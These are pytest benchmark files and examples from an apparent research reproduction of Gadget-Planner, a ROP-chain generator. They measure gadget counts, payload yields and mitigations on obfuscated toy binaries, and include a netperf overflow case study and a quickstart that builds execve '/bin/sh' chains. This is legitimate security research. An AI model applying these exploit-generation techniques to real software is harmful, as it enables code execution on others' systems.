"""Shared plumbing for the experiment benchmarks.

Every benchmark regenerates one table/figure from the paper, prints it,
and writes it under ``benchmarks/results/`` so EXPERIMENTS.md can refer
to concrete artefacts.
"""

import pathlib

import pytest

RESULTS_DIR = pathlib.Path(__file__).parent / "results"


@pytest.fixture(scope="session")
def results_dir() -> pathlib.Path:
    RESULTS_DIR.mkdir(exist_ok=True)
    return RESULTS_DIR


@pytest.fixture(scope="session")
def record_table(results_dir):
    def _record(name: str, title: str, text: str) -> None:
        path = results_dir / f"{name}.txt"
        content = f"{title}\n{'=' * len(title)}\n{text}\n"
        path.write_text(content)
        print()
        print(content)

    return _record
