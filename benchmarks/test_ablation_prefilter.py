"""Ablation: the semantic gadget prefilter (staticanalysis.window).

The prefilter sits between the syntactic scan and the symbolic
executor: candidates whose decode graph proves them unable to reach an
indirect transfer within the window budget are culled without symbolic
execution.  Soundness means the gadget pool must be *identical* either
way — the ablation therefore reports pure overhead/savings, not a
quality trade-off.
"""

import time

import pytest

from repro.bench import BENCH_EXTRACTION, DEFAULT_SEED, netperf_image
from repro.gadgets import ExtractionConfig, ExtractionStats, extract_gadgets
from repro.obfuscation.pipeline import CONFIGS

CONFIG = "llvm_obf"


@pytest.fixture(scope="module")
def image():
    return netperf_image(CONFIGS[CONFIG], seed=DEFAULT_SEED).image


def _extraction(**overrides):
    base = dict(
        max_insns=BENCH_EXTRACTION.max_insns,
        max_paths=BENCH_EXTRACTION.max_paths,
        max_candidates=BENCH_EXTRACTION.max_candidates,
    )
    base.update(overrides)
    return ExtractionConfig(**base)


def test_ablation_semantic_prefilter(benchmark, record_table, image):
    def run():
        on_stats, off_stats = ExtractionStats(), ExtractionStats()
        t0 = time.perf_counter()
        with_filter = extract_gadgets(
            image, _extraction(semantic_prefilter=True), on_stats
        )
        t1 = time.perf_counter()
        without_filter = extract_gadgets(
            image, _extraction(semantic_prefilter=False), off_stats
        )
        t2 = time.perf_counter()
        return with_filter, without_filter, on_stats, off_stats, t1 - t0, t2 - t1

    with_filter, without_filter, on_stats, off_stats, on_s, off_s = benchmark.pedantic(
        run, iterations=1, rounds=1
    )
    saved = off_stats.symex_invocations - on_stats.symex_invocations
    text = (
        f"program:                 netperf-like ({CONFIG}, seed {DEFAULT_SEED})\n"
        f"candidates:              {on_stats.candidates}\n"
        f"semantically culled:     {on_stats.semantically_culled} "
        f"({on_stats.cull_ratio:.1%})\n"
        f"symex calls saved:       {saved} "
        f"({on_stats.symex_invocations} vs {off_stats.symex_invocations})\n"
        f"wall-clock with filter:  {on_s:.2f}s\n"
        f"wall-clock without:      {off_s:.2f}s\n"
        f"wall-clock delta:        {off_s - on_s:+.2f}s\n"
        f"records (both):          {len(with_filter)}"
    )
    record_table("ablation_prefilter", "Ablation: semantic gadget prefilter", text)

    # Soundness: the pool is byte-for-byte the work product either way.
    assert [r.__dict__ for r in with_filter] == [r.__dict__ for r in without_filter]
    # Effectiveness: the paper-scale budget culls a solid share of the
    # obfuscated binary's candidates before any symbolic execution.
    assert on_stats.cull_ratio >= 0.25
    assert on_stats.symex_invocations == on_stats.candidates - on_stats.semantically_culled
