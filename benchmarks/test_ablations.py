"""Ablations of Gadget-Planner's design choices (DESIGN.md).

Four knobs, each tested on the same obfuscated build:

* subsumption testing on/off → pool size (the paper: ~3× reduction);
* conditional-jump gadgets on/off → payload availability;
* direct-jump merging on/off → gadget richness;
* the paper's two-key heuristic vs naive FIFO → search efficiency.
"""

import pytest

from repro.bench import BENCH_EXTRACTION, BENCH_PLANNER, build
from repro.gadgets import ExtractionConfig, deduplicate_gadgets, extract_gadgets
from repro.gadgets.subsumption import SubsumptionStats
from repro.planner import GadgetPlanner, PlannerConfig

PROGRAM, CONFIG = "hash_table", "llvm_obf"


@pytest.fixture(scope="module")
def image():
    return build(PROGRAM, CONFIG).image


def _extraction(**overrides):
    base = dict(
        max_insns=BENCH_EXTRACTION.max_insns,
        max_paths=BENCH_EXTRACTION.max_paths,
        max_candidates=BENCH_EXTRACTION.max_candidates,
    )
    base.update(overrides)
    return ExtractionConfig(**base)


def test_ablation_subsumption(benchmark, record_table, image):
    def run():
        records = extract_gadgets(image, _extraction())
        stats = SubsumptionStats()
        deduped = deduplicate_gadgets(records, stats=stats)
        return records, deduped, stats

    records, deduped, stats = benchmark.pedantic(run, iterations=1, rounds=1)
    text = (
        f"pool before subsumption: {len(records)}\n"
        f"pool after subsumption:  {len(deduped)}\n"
        f"reduction factor:        {stats.reduction_factor:.2f}x "
        f"(paper reports an average of 2.97x)\n"
        f"fingerprint buckets:     {stats.buckets}\n"
        f"solver checks:           {stats.solver_checks}"
    )
    record_table("ablation_subsumption", "Ablation: subsumption testing", text)
    assert len(deduped) < len(records)
    assert stats.reduction_factor > 1.5


def test_ablation_conditional_gadgets(benchmark, record_table, image):
    def run():
        with_cond = GadgetPlanner(
            image, extraction=_extraction(include_conditional=True), planner=BENCH_PLANNER
        ).run()
        without = GadgetPlanner(
            image, extraction=_extraction(include_conditional=False, max_paths=1), planner=BENCH_PLANNER
        ).run()
        return with_cond, without

    with_cond, without = benchmark.pedantic(run, iterations=1, rounds=1)
    text = (
        f"payloads with conditional gadgets:    {with_cond.total_payloads}\n"
        f"payloads without conditional gadgets: {without.total_payloads}\n"
        f"gadget pool with/without:             "
        f"{with_cond.gadgets_total}/{without.gadgets_total}"
    )
    record_table("ablation_conditional", "Ablation: conditional-jump gadgets", text)
    assert with_cond.gadgets_total >= without.gadgets_total
    assert with_cond.total_payloads >= without.total_payloads


def test_ablation_direct_jump_merging(benchmark, record_table, image):
    def run():
        merged = extract_gadgets(image, _extraction(merge_direct_jumps=True))
        unmerged = extract_gadgets(image, _extraction(merge_direct_jumps=False))
        return merged, unmerged

    merged, unmerged = benchmark.pedantic(run, iterations=1, rounds=1)
    merged_count = sum(1 for g in merged if g.merged_direct_jumps > 0)
    text = (
        f"gadgets with merging:    {len(merged)} ({merged_count} used a direct jump)\n"
        f"gadgets without merging: {len(unmerged)}"
    )
    record_table("ablation_merge", "Ablation: direct-jump merging", text)
    assert merged_count > 0, "obfuscated code should offer merged gadgets"
    assert len(merged) >= len(unmerged)


def test_ablation_heuristic_vs_fifo(benchmark, record_table):
    """Replace the paper's priority key with arrival order and compare
    how many plans a fixed node budget yields.  Uses a build where the
    full budget finds many plans, so the budgeted comparison has signal."""
    from repro.planner.plan import PartialPlan

    rich_image = build("string_ops", "llvm_obf").image
    results = {}

    def run():
        original_key = PartialPlan.priority_key
        config = PlannerConfig(max_nodes=1200, max_plans=10, max_steps=8, providers_per_cond=4)
        results["heuristic"] = GadgetPlanner(
            rich_image, extraction=_extraction(), planner=config
        ).run().total_payloads
        try:
            PartialPlan.priority_key = lambda self: (0, 0, 0)  # pure FIFO
            results["fifo"] = GadgetPlanner(
                rich_image, extraction=_extraction(), planner=config
            ).run().total_payloads
        finally:
            PartialPlan.priority_key = original_key
        return results

    results = benchmark.pedantic(run, iterations=1, rounds=1)
    text = (
        f"payloads with paper heuristic (1200-node budget): {results['heuristic']}\n"
        f"payloads with FIFO ordering   (1200-node budget): {results['fifo']}"
    )
    record_table("ablation_heuristics", "Ablation: search heuristics", text)
    assert results["heuristic"] >= results["fifo"]
    assert results["heuristic"] > 0, "budgeted search should still find plans"
