"""Defense matrix — surviving attack surface and payloads per policy.

The paper's question is how much code-reuse attack surface obfuscation
*adds*; this experiment asks how much of the added surface deployed
mitigations *reclaim*.  For every (program, build config, policy) cell
the full Gadget-Planner runs with the policy enforced during payload
validation, and the matrix records the surviving winnowed pool plus
validated payload counts.

Key shape asserted (the coarse/fine CFI gap on obfuscated code): a
payload set that succeeds unprotected still succeeds under *coarse*
CFI on an obfuscated build — the gadget surplus obfuscation creates is
overwhelmingly at recovered instruction boundaries — but dies under
*fine-grained* CFI, whose return-site/entry labels the ROP chain
cannot satisfy.

One honest wrinkle worth keeping visible in the artifact: filtering
the pool can *help* the bounded planner search (fewer providers per
condition → less branching within ``max_nodes``), so a policy column
is not guaranteed monotone in payload count against ``none``.
Survival counts, by contrast, are monotone by construction and
asserted as such.

Artifacts: ``benchmarks/results/BENCH_defenses.json`` (schema
``nfl-bench-defenses-v1``) and the printed/recorded fixed-width table.
"""

import json
import tempfile
from pathlib import Path

import pytest

from repro.bench.harness import BENCH_EXTRACTION, BENCH_PLANNER, MAIN_CONFIGS, build
from repro.defenses import (
    BENCH_DEFENSES_SCHEMA,
    POLICIES,
    defense_matrix_entry,
    format_defense_matrix,
    validate_defense_matrix,
)
from repro.pipeline import ResultCache
from repro.planner import execve_goal, mprotect_goal

PROGRAMS = ("crc32", "string_ops")
POLICY_NAMES = ("none", "coarse_cfi", "fine_cfi", "shadow_stack", "aslr_leak")


def run_defense_matrix() -> dict:
    policies = [POLICIES[name] for name in POLICY_NAMES]
    entries = []
    with tempfile.TemporaryDirectory(prefix="nfl-defense-bench-") as tmp:
        # One shared cache: extraction + winnowing run once per build,
        # every policy re-filters the same cached pool.
        cache = ResultCache(root=Path(tmp))
        for program in PROGRAMS:
            for config in MAIN_CONFIGS:
                image = build(program, config).image
                goals = [
                    mprotect_goal(addr=image.data.addr & ~0xFFF),
                    execve_goal(),
                ]
                entries.extend(
                    defense_matrix_entry(
                        image,
                        policies,
                        program=program,
                        config=config,
                        goals=goals,
                        extraction=BENCH_EXTRACTION,
                        planner=BENCH_PLANNER,
                        cache=cache,
                    )
                )
    return {
        "schema": BENCH_DEFENSES_SCHEMA,
        "programs": list(PROGRAMS),
        "configs": list(MAIN_CONFIGS),
        "policies": list(POLICY_NAMES),
        "entries": entries,
    }


@pytest.fixture(scope="module")
def matrix():
    return run_defense_matrix()


def test_defense_matrix(benchmark, record_table, results_dir, matrix):
    benchmark.pedantic(lambda: matrix, iterations=1, rounds=1)

    (results_dir / "BENCH_defenses.json").write_text(json.dumps(matrix, indent=2) + "\n")
    record_table(
        "defense_matrix",
        f"Defense matrix: {PROGRAMS} x {MAIN_CONFIGS} x {POLICY_NAMES}",
        format_defense_matrix(matrix),
    )

    validate_defense_matrix(matrix)
    assert len(matrix["policies"]) >= 4
    assert len(matrix["configs"]) >= 3
    assert len(matrix["entries"]) == len(PROGRAMS) * len(MAIN_CONFIGS) * len(POLICY_NAMES)


def cell(matrix, program, config, policy):
    return next(
        e
        for e in matrix["entries"]
        if (e["program"], e["config"], e["policy"]) == (program, config, policy)
    )


def test_survival_monotone_in_policy_strength(matrix):
    for program in PROGRAMS:
        for config in MAIN_CONFIGS:
            none = cell(matrix, program, config, "none")
            coarse = cell(matrix, program, config, "coarse_cfi")
            fine = cell(matrix, program, config, "fine_cfi")
            assert none["surviving"] == none["pool_size"]
            assert fine["surviving"] <= coarse["surviving"] <= none["surviving"]
            assert fine["killed_cfi"] >= coarse["killed_cfi"] >= 0


def test_coarse_cfi_passes_where_fine_blocks_on_obfuscated_build(matrix):
    """The acceptance shape: on an obfuscated build, payloads that
    succeed unprotected still succeed under coarse CFI and are all
    gone under fine CFI."""
    demonstrated = False
    for program in PROGRAMS:
        for config in ("llvm_obf", "tigress"):
            none = cell(matrix, program, config, "none")
            coarse = cell(matrix, program, config, "coarse_cfi")
            fine = cell(matrix, program, config, "fine_cfi")
            if none["payloads"] > 0 and coarse["payloads"] > 0 and fine["payloads"] == 0:
                demonstrated = True
    assert demonstrated, "no obfuscated build showed the coarse-pass/fine-block gap"


def test_shadow_stack_kills_rop_payloads(matrix):
    for config in MAIN_CONFIGS:
        entry = cell(matrix, "string_ops", config, "shadow_stack")
        assert entry["payloads"] == 0, config
        assert entry["killed_shadow_stack"] > 0, config


def test_aslr_leak_restores_capability(matrix):
    """With a leak budget the chain runs unmodified (and pays for it)."""
    entry = cell(matrix, "string_ops", "llvm_obf", "aslr_leak")
    baseline = cell(matrix, "string_ops", "llvm_obf", "none")
    assert entry["payloads"] == baseline["payloads"] > 0
    assert entry["leaks_used"] >= entry["payloads"]
    assert entry["surviving"] == entry["pool_size"], "ASLR filters no gadgets"
