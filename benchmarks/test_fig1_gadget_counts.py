"""Fig. 1 — number of gadgets, original vs obfuscated, per program.

Paper shape: obfuscation substantially increases the gadget count in
every benchmark program (roughly 1.4–2× for O-LLVM, more for Tigress).
"""

from repro.bench import BENCHMARK_SUITE, fig1_gadget_counts, format_fig1


def test_fig1_gadget_counts(benchmark, record_table):
    rows = benchmark.pedantic(
        fig1_gadget_counts,
        kwargs={"programs": tuple(BENCHMARK_SUITE)},
        iterations=1,
        rounds=1,
    )
    record_table("fig1_gadget_counts", "Fig. 1: syntactic gadget counts", format_fig1(rows))
    # The paper's headline finding must hold for every single program.
    for row in rows:
        assert row.counts["llvm_obf"] > row.counts["none"], row.program
        assert row.counts["tigress"] > row.counts["none"], row.program
