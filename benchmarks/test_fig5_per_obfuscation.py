"""Fig. 5 — payloads per individual obfuscation method.

Paper shape: every obfuscation method adds code-reuse risk, with large
method-to-method differences; self-modification sits at the bottom.

Reproduction note (see EXPERIMENTS.md): in the paper the top risks are
the jump-injecting transforms (bogus CF, flattening, virtualization).
Here encode-data ranks alongside them — its random 64-bit literals are
unusually gadget-dense under the NFL encoding (8 attacker-ish bytes per
constant, where x86 spreads them across more instruction forms).  The
invariants asserted below are the ones that transfer: obfuscation
methods create payloads the original lacks, and self-modification
(packing) *hides* static attack surface rather than adding it.
"""


from repro.bench import fig5_per_method, format_fig5, run_tool

FIG5_PROGRAMS = ("crc32", "string_ops", "state_machine", "hash_table")


def test_fig5_per_obfuscation(benchmark, record_table):
    counts = benchmark.pedantic(
        fig5_per_method, kwargs={"programs": FIG5_PROGRAMS}, iterations=1, rounds=1
    )
    record_table(
        "fig5_per_obfuscation",
        "Fig. 5: Gadget-Planner payloads per single obfuscation method",
        format_fig5(counts),
    )
    assert counts, "no methods measured"

    original_total = sum(
        run_tool("gadget_planner", p, "none").total_payloads for p in FIG5_PROGRAMS
    )
    # Obfuscation introduces payloads beyond the original builds.
    assert sum(counts.values()) > original_total
    # At least the flattening/virtualization/encode-data family delivers.
    assert counts["flattening"] > 0
    assert counts["virtualization"] > 0
    # Packing (self-modification) hides static surface: fewest payloads.
    assert counts["self_modify"] <= min(
        v for k, v in counts.items() if k != "self_modify"
    )
