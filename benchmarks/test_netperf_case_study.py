"""The netperf case study (Sec. VI-C) — Fig. 7/8.

Paper shape: Gadget-Planner builds multiple payloads on the obfuscated
netperf; at least one delivers end-to-end through the real ``-a``
argument overflow (Fig. 8's execve chain spawning a shell).
"""


from repro.bench import BENCH_EXTRACTION
from repro.bench.netperf import (
    build_exploit_argument,
    find_overflow_offset,
    netperf_image,
    run_netperf_with_arg,
)
from repro.obfuscation import CONFIGS
from repro.planner import GadgetPlanner, PlannerConfig


def _case_study():
    linked = netperf_image(CONFIGS["llvm_obf"], seed=7)
    offset = find_overflow_offset(linked)
    planner = GadgetPlanner(
        linked.image,
        extraction=BENCH_EXTRACTION,
        planner=PlannerConfig(max_nodes=1500, max_plans=10, max_steps=8, providers_per_cond=4),
    )
    report = planner.run()
    delivered = []
    for payload in report.payloads:
        arg = build_exploit_argument(linked, payload.to_bytes(), offset=offset)
        if arg is None:
            continue
        _, event = run_netperf_with_arg(linked, arg)
        if event is not None:
            delivered.append((payload, event))
    return linked, offset, report, delivered


def test_netperf_case_study(benchmark, record_table):
    linked, offset, report, delivered = benchmark.pedantic(_case_study, iterations=1, rounds=1)
    lines = [
        f"obfuscated netperf-like client: {len(linked.image.text.data)} bytes of text",
        f"overflow offset (cyclic pattern): {offset}",
        f"gadgets: {report.gadgets_total} -> {report.gadgets_after_subsumption} after subsumption",
        f"validated payloads: {report.per_goal}",
        f"delivered end-to-end through -a: {len(delivered)}",
    ]
    for payload, event in delivered:
        lines.append(f"  {payload.goal_name}: syscall {event.number.name}{event.args[:3]}")
    example = next((p for p, e in delivered), None)
    if example is not None:
        lines.append("")
        lines.append(example.describe())
    record_table("netperf_case_study", "netperf case study (Fig. 7/8)", "\n".join(lines))

    assert offset is not None, "overflow offset discovery failed"
    assert report.total_payloads >= 1, "no payloads on obfuscated netperf"
    assert delivered, "no payload survived delivery through break_args"
