"""Pipeline performance — parallel sharding + persistent result cache.

Measures the :mod:`repro.pipeline` fast paths on the obfuscated
netperf-like target and records both the human-readable table and a
machine-readable ``BENCH_pipeline.json`` so the perf trajectory is
trackable across PRs.

Honest-measurement policy: the multi-process speedup assertion is
gated on ``os.cpu_count() >= 4`` — a 1-core CI runner cannot show a
2x parallel win and recording ~1x there is the correct result, not a
failure.  Byte-identity and warm-cache assertions are hardware
independent and always enforced.
"""

import json
import os

from repro.bench.harness import format_pipeline_bench, pipeline_benchmark


def test_pipeline_performance(benchmark, record_table, results_dir):
    result = benchmark.pedantic(pipeline_benchmark, iterations=1, rounds=1)

    (results_dir / "BENCH_pipeline.json").write_text(json.dumps(result, indent=2) + "\n")
    record_table(
        "BENCH_pipeline",
        "Pipeline performance: parallel sharding + persistent cache",
        format_pipeline_bench(result),
    )

    # Byte-identity: every jobs level reproduces the serial pools.
    for run in result["runs"]:
        assert run["extract_identical"], f"jobs={run['jobs']} extraction pool differs"
        assert run["winnow_identical"], f"jobs={run['jobs']} winnowed pool differs"

    # Warm cache: no symbolic execution, no solver work, >=10x faster.
    cache = result["cache"]
    assert cache["warm_extract_hit"] and cache["warm_winnow_hit"]
    assert cache["warm_symex_invocations"] == 0
    assert cache["warm_solver_checks"] == 0
    assert cache["warm_identical"]
    assert cache["speedup"] >= 10.0, f"warm cache only {cache['speedup']:.1f}x faster"

    # Parallel speedup needs parallel hardware to be measurable.
    if (os.cpu_count() or 1) >= 4:
        four = next(r for r in result["runs"] if r["jobs"] == 4)
        assert four["extract_speedup"] >= 2.0, (
            f"jobs=4 extraction only {four['extract_speedup']:.2f}x over serial"
        )
