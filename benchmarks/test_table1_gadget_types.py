"""Table I — gadget populations by type, original vs obfuscated.

Paper shape: every gadget family (Return / UDJ / UIJ / CDJ / CIJ)
grows under obfuscation, with increase rates in the tens of percent.
"""

from repro.bench import BENCHMARK_SUITE, format_table1, table1_type_counts
from repro.gadgets import JmpType


def test_table1_gadget_types(benchmark, record_table):
    rows = benchmark.pedantic(
        table1_type_counts,
        kwargs={"programs": tuple(BENCHMARK_SUITE)},
        iterations=1,
        rounds=1,
    )
    record_table("table1_gadget_types", "Table I: gadget types (O-LLVM all passes)", format_table1(rows))
    by_type = {r.gadget_type: r for r in rows}
    # All five families are populated in obfuscated builds...
    for kind in (JmpType.RET, JmpType.UDJ, JmpType.UIJ, JmpType.CDJ, JmpType.CIJ):
        assert by_type[kind].obfuscated > 0, kind
    # ...and the dominant families grow.
    total_orig = sum(r.original for r in rows)
    total_obf = sum(r.obfuscated for r in rows)
    assert total_obf > total_orig * 1.2
    assert by_type[JmpType.RET].increase_rate > 0
    assert by_type[JmpType.CDJ].increase_rate > 0
