"""Table IV — tools × obfuscation configs: gadgets and validated payloads.

Paper shape to reproduce: all tools *find* plenty of gadgets, but on
obfuscated builds only Gadget-Planner turns the surplus into payloads —
GP ≥ SGC ≥ angrop ≥ ROPGadget, and GP gains payloads under obfuscation
(the parenthesized "newly introduced" column).
"""

import pytest

from repro.bench import MAIN_CONFIGS, format_table4, table4_tool_comparison

#: A four-program slice keeps the full 3×4 matrix tractable; the cap
#: (BENCH_EXTRACTION.max_candidates) is reported in EXPERIMENTS.md.
TABLE4_PROGRAMS = ("crc32", "string_ops", "state_machine", "hash_table")


@pytest.fixture(scope="module")
def cells():
    return table4_tool_comparison(programs=TABLE4_PROGRAMS)


def test_table4_payload_comparison(benchmark, record_table, cells):
    benchmark.pedantic(lambda: cells, iterations=1, rounds=1)
    record_table(
        "table4_payloads",
        f"Table IV: payloads per tool/config over {TABLE4_PROGRAMS}",
        format_table4(cells),
    )
    by = {(c.config, c.tool): c for c in cells}

    for config in MAIN_CONFIGS:
        gp = by[(config, "gadget_planner")]
        rg = by[(config, "ropgadget")]
        ang = by[(config, "angrop")]
        sgc = by[(config, "sgc")]
        # The ordering the paper reports.
        assert gp.total >= sgc.total >= ang.total >= rg.total, config

    # Gadget-Planner exploits obfuscation: new payloads appear.
    gp_orig = by[("none", "gadget_planner")].total
    gp_llvm = by[("llvm_obf", "gadget_planner")].total
    assert gp_llvm > gp_orig
    assert by[("llvm_obf", "gadget_planner")].new_vs_original > 0
    # And GP strictly dominates the baselines on obfuscated builds.
    assert gp_llvm > by[("llvm_obf", "sgc")].total
