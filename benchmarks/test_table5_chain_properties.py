"""Table V — chain properties per tool.

Paper shape: ROPGadget/angrop chains are 100% ret gadgets;
Gadget-Planner uses all gadget families (Ret/IJ/DJ/CJ), builds the
longest chains, and uses the longest gadgets.
"""


from repro.bench import (
    collect_payloads_by_tool,
    format_table5,
    table5_chain_properties,
)
from benchmarks.test_table4_payloads import TABLE4_PROGRAMS


def test_table5_chain_properties(benchmark, record_table):
    payloads = benchmark.pedantic(
        collect_payloads_by_tool,
        kwargs={"programs": TABLE4_PROGRAMS},
        iterations=1,
        rounds=1,
    )
    rows = table5_chain_properties(payloads)
    record_table("table5_chain_properties", "Table V: chain properties", format_table5(rows))
    by_tool = {r.tool: r for r in rows}

    gp = by_tool["gadget_planner"]
    assert payloads["gadget_planner"], "GP produced no payloads to measure"
    # Baselines that produced chains used only ret gadgets.
    for tool in ("ropgadget", "angrop"):
        if payloads[tool]:
            assert by_tool[tool].pct_ret == 100.0, tool
            assert by_tool[tool].pct_cj == 0.0, tool
    if payloads["sgc"]:
        assert by_tool["sgc"].pct_cj == 0.0
        assert by_tool["sgc"].pct_dj == 0.0
    # GP's chains are the most diverse and at least as long as any
    # baseline's (the paper: longest chains, largest gadgets).
    comparable = [by_tool[t] for t in ("ropgadget", "angrop", "sgc") if payloads[t]]
    for other in comparable:
        assert gp.avg_chain_len >= other.avg_chain_len * 0.9
    assert gp.pct_cj + gp.pct_dj + gp.pct_ij > 0, "GP should use non-ret gadget families"
