"""Table VI — SPEC-like programs: gadgets and chains per tool.

Paper shape: on larger, realistic programs Gadget-Planner finds chains
the baselines cannot, on both original and obfuscated builds; baselines
mostly report 0–1 chains while GP's counts grow with obfuscation.
"""


from repro.bench import format_table6, table6_spec

#: O-LLVM only: the paper also produced just four LLVM-Obf SPEC builds,
#: and two Tigress ones; the shape is carried by the LLVM column.
CONFIGS = ("none", "llvm_obf")


def test_table6_spec(benchmark, record_table):
    rows = benchmark.pedantic(
        table6_spec, kwargs={"configs": CONFIGS}, iterations=1, rounds=1
    )
    record_table("table6_spec", "Table VI: SPEC-like benchmark comparison", format_table6(rows))

    gp_total = sum(r.chains["gadget_planner"] for r in rows)
    baseline_best = max(
        sum(r.chains[t] for r in rows) for t in ("ropgadget", "angrop", "sgc")
    )
    assert gp_total > baseline_best, "GP must dominate on SPEC-like programs"

    # Obfuscation increases the gadget population on every benchmark.
    by_bench = {}
    for r in rows:
        by_bench.setdefault(r.benchmark, {})[r.config] = r
    for bench, cfgs in by_bench.items():
        assert cfgs["llvm_obf"].gadgets > cfgs["none"].gadgets, bench

    # GP on obfuscated ≥ GP on original (aggregate).
    gp_obf = sum(r.chains["gadget_planner"] for r in rows if r.config == "llvm_obf")
    gp_orig = sum(r.chains["gadget_planner"] for r in rows if r.config == "none")
    assert gp_obf >= gp_orig
