"""Table VII — per-stage time and memory on the obfuscated netperf.

Paper shape: extraction and subsumption dominate Gadget-Planner's
runtime while planning is comparatively cheap (the earlier stages
shrink the search space); angrop is the fastest tool overall.
"""

import time


from repro.bench import (
    BENCH_EXTRACTION,
    DEFAULT_SEED,
    format_table7,
    netperf_image,
    table7_performance,
)
from repro.gadgets import ExtractionConfig, ExtractionStats, extract_gadgets
from repro.gadgets.extract import candidate_offsets
from repro.obfuscation.pipeline import CONFIGS
from repro.staticanalysis import DecodeGraph


def test_table7_performance(benchmark, record_table):
    rows = benchmark.pedantic(table7_performance, iterations=1, rounds=1)
    record_table(
        "table7_performance",
        "Table VII: stage times on obfuscated netperf-like",
        format_table7(rows),
    )
    gp = {r.stage: r for r in rows if r.tool == "gadget_planner"}
    assert gp["total"].seconds > 0
    # Planning is cheap relative to extraction + subsumption.
    heavy = gp["gadget extraction"].seconds + gp["subsumption testing"].seconds
    assert gp["planning"].seconds <= heavy

    angrop_total = next(r for r in rows if r.tool == "angrop" and r.stage == "total")
    assert angrop_total.seconds <= gp["total"].seconds, "angrop should be the fastest"


def test_extraction_stage_speedup(benchmark, record_table):
    """The static-analysis layer's effect on the extraction stage:

    * the shared :class:`DecodeGraph` (decode each byte once, plus the
      ever-reaches precheck) accelerates the candidate scan several-fold
      over the legacy per-offset decode loop, with identical candidates;
    * the semantic prefilter then drops a quarter-plus of the surviving
      candidates before symbolic execution, with an identical pool.
    """
    image = netperf_image(CONFIGS["llvm_obf"], seed=DEFAULT_SEED).image
    config = ExtractionConfig(
        max_insns=BENCH_EXTRACTION.max_insns,
        max_paths=BENCH_EXTRACTION.max_paths,
        max_candidates=BENCH_EXTRACTION.max_candidates,
    )

    def run():
        t0 = time.perf_counter()
        legacy = candidate_offsets(image, config, None)
        t1 = time.perf_counter()
        graph = DecodeGraph(image.text.data, image.text.addr)
        shared = candidate_offsets(image, config, graph)
        t2 = time.perf_counter()
        stats = ExtractionStats()
        extract_gadgets(image, config, stats)
        t3 = time.perf_counter()
        return legacy, shared, stats, t1 - t0, t2 - t1, t3 - t2

    legacy, shared, stats, legacy_s, shared_s, full_s = benchmark.pedantic(
        run, iterations=1, rounds=1
    )
    text = (
        f"candidate scan, legacy decode loop:  {legacy_s:.2f}s\n"
        f"candidate scan, shared decode graph: {shared_s:.2f}s "
        f"({legacy_s / shared_s:.1f}x faster)\n"
        f"full extraction (graph + prefilter): {full_s:.2f}s\n"
        f"candidates: {len(shared)}, culled by prefilter: "
        f"{stats.semantically_culled} ({stats.cull_ratio:.1%}), "
        f"symex invocations: {stats.symex_invocations}"
    )
    record_table(
        "table7_extraction_speedup",
        "Extraction-stage speedup from the static-analysis layer",
        text,
    )
    assert shared == legacy, "shared decode graph must not change the scan"
    assert shared_s * 2 < legacy_s, "shared decode graph should be >=2x faster"
    assert stats.cull_ratio >= 0.25
    assert stats.symex_invocations < stats.candidates
