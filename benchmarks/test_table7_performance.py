"""Table VII — per-stage time and memory on the obfuscated netperf.

Paper shape: extraction and subsumption dominate Gadget-Planner's
runtime while planning is comparatively cheap (the earlier stages
shrink the search space); angrop is the fastest tool overall.
"""

import pytest

from repro.bench import format_table7, table7_performance


def test_table7_performance(benchmark, record_table):
    rows = benchmark.pedantic(table7_performance, iterations=1, rounds=1)
    record_table(
        "table7_performance",
        "Table VII: stage times on obfuscated netperf-like",
        format_table7(rows),
    )
    gp = {r.stage: r for r in rows if r.tool == "gadget_planner"}
    assert gp["total"].seconds > 0
    # Planning is cheap relative to extraction + subsumption.
    heavy = gp["gadget extraction"].seconds + gp["subsumption testing"].seconds
    assert gp["planning"].seconds <= heavy

    angrop_total = next(r for r in rows if r.tool == "angrop" and r.stage == "total")
    assert angrop_total.seconds <= gp["total"].seconds, "angrop should be the fastest"
