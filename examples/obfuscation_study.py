#!/usr/bin/env python3
"""Does obfuscation increase the code-reuse attack surface? (Sec. III)

Compiles one benchmark program under every obfuscation configuration,
verifies semantics are preserved, and reports: code size, syntactic
gadget counts by type (Table I's view), and how many validated payloads
Gadget-Planner builds from each build (Fig. 5's view).

Run:  python examples/obfuscation_study.py [program]
"""

import sys
import time

from repro.bench import BENCHMARK_SUITE, build, run_tool, verify_semantics
from repro.gadgets import count_by_type, scan_syntactic_gadgets
from repro.obfuscation import CONFIGS

STUDY_CONFIGS = (
    "none",
    "substitution",
    "bogus_control_flow",
    "flattening",
    "encode_data",
    "virtualization",
    "llvm_obf",
)


def main() -> None:
    program = sys.argv[1] if len(sys.argv) > 1 else "crc32"
    if program not in BENCHMARK_SUITE:
        print(f"unknown program {program!r}; choose from: {', '.join(sorted(BENCHMARK_SUITE))}")
        return

    header = f"{'config':<20}{'text B':>8}{'gadgets':>9}{'ret':>6}{'udj':>6}{'uij':>6}{'cdj':>6}{'cij':>6}{'payloads':>10}"
    print(header)
    print("-" * len(header))
    for config in STUDY_CONFIGS:
        linked = build(program, config)
        image = linked.image
        assert config == "none" or verify_semantics(program, config), "semantics broken!"
        gadgets = scan_syntactic_gadgets(image)
        by_type = {k.value: v for k, v in count_by_type(gadgets).items()}
        t0 = time.time()
        payloads = run_tool("gadget_planner", program, config).total_payloads
        print(
            f"{config:<20}{len(image.text.data):>8}{len(gadgets):>9}"
            f"{by_type.get('ret', 0):>6}{by_type.get('udj', 0):>6}{by_type.get('uij', 0):>6}"
            f"{by_type.get('cdj', 0):>6}{by_type.get('cij', 0):>6}{payloads:>10}"
        )
    print("\n(every obfuscated build verified to behave identically to the original)")


if __name__ == "__main__":
    main()
