#!/usr/bin/env python3
"""Quickstart: find and validate code-reuse chains in 60 lines.

Builds a small binary with a few gadgets, runs the full Gadget-Planner
pipeline (extraction → subsumption → partial-order planning → payload
assembly), and *executes* every payload in the emulator to prove it
reaches its goal syscall.

Run:  python examples/quickstart.py
"""

from repro.binfmt import make_image
from repro.isa import assemble_unit, format_listing
from repro.planner import GadgetPlanner, execve_goal, mprotect_goal

SOURCE = """
    hlt                 ; entry padding
gadget_pop_rax:
    pop rax
    ret
gadget_pop_rdi:
    pop rdi
    ret
gadget_rsi_via_rcx:     ; no pop rsi; ret exists — rsi needs two hops
    pop rcx
    ret
gadget_mov_rsi:
    mov rsi, rcx
    ret
gadget_pop_rdx:
    pop rdx
    ret
gadget_write:           ; write-what-where: plants "/bin/sh" in .data
    mov [rdi+0], rsi
    ret
gadget_syscall:
    syscall
    ret
"""


def main() -> None:
    unit = assemble_unit(SOURCE, base_addr=0x400000)
    image = make_image(unit.code, symbols=dict(unit.labels))

